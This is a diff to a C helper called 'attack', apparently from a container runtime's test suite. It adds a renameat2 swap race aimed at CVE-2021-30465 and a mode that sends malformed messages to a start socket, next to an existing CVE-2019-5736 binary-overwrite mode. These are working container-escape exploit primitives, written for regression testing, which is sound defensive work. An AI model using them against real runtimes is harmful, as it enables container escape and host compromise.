@@ -7,6 +7,12 @@
  *   attack overwrite PID GO N   hold /proc/PID/exe open; once the file GO
  *                               exists, try N times to reopen it for writing
  *                               through /proc/self/fd (CVE-2019-5736)
+ *   attack exchange A B STOP    swap A and B with renameat2(RENAME_EXCHANGE)
+ *                               until the file STOP exists (CVE-2021-30465)
+ *   attack start-socket PATH KIND
+ *                               send one malformed message to a start
+ *                               socket: short, error, long-start (a START
+ *                               followed by more bytes), or start
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -15,6 +21,9 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -72,6 +81,55 @@ static int overwrite(int pid, const char *go, int tries)
     return 0;
 }
 
+static int exchange(const char *a, const char *b, const char *stop)
+{
+    long swaps = 0;
+    while (access(stop, F_OK) != 0) {
+        for (int i = 0; i < 1000; i++)
+            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+                swaps++;
+    }
+    printf("swaps %ld\n", swaps);
+    return 0;
+}
+
+/* skiff's wire record: four 32-bit fields; START is 4, ERROR 5. */
+static int start_socket(const char *path, const char *kind)
+{
+    int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
+    struct sockaddr_un addr = { .sun_family = AF_UNIX };
+    strncpy(addr.sun_path, path, sizeof addr.sun_path - 1);
+    if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof addr) < 0) {
+        printf("connect %d\n", errno);
+        return 0;
+    }
+    unsigned int msg[8] = { 0 };
+    size_t len = 16;
+    if (strcmp(kind, "short") == 0) {
+        msg[0] = 4;
+        len = 3;
+    } else if (strcmp(kind, "error") == 0) {
+        msg[0] = 5;
+    } else if (strcmp(kind, "long-start") == 0) {
+        msg[0] = 4;
+        msg[3] = (unsigned int)-1;
+        len = sizeof msg;
+    } else {
+        msg[0] = 4;
+        msg[3] = (unsigned int)-1;
+    }
+    ssize_t n = send(s, msg, len, MSG_NOSIGNAL);
+    printf("send %d\n", n == (ssize_t)len ? 0 : errno);
+    /* What came back: end of file (0 bytes), a record, or an error. */
+    struct timeval tv = { .tv_sec = 2 };
+    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+    char reply[64];
+    n = recv(s, reply, sizeof reply, 0);
+    printf("reply %zd\n", n);
+    close(s);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -79,6 +137,10 @@ int main(int argc, char **argv)
         return probe(atoi(argv[2]));
     if (argc == 5 && strcmp(argv[1], "overwrite") == 0)
         return overwrite(atoi(argv[2]), argv[3], atoi(argv[4]));
-    fprintf(stderr, "usage: attack probe PID | attack overwrite PID GO N\n");
+    if (argc == 5 && strcmp(argv[1], "exchange") == 0)
+        return exchange(argv[2], argv[3], argv[4]);
+    if (argc == 4 && strcmp(argv[1], "start-socket") == 0)
+        return start_socket(argv[2], argv[3]);
+    fprintf(stderr, "usage: attack probe PID | overwrite PID GO N | exchange A B STOP | start-socket PATH KIND\n");
     return 2;
 }
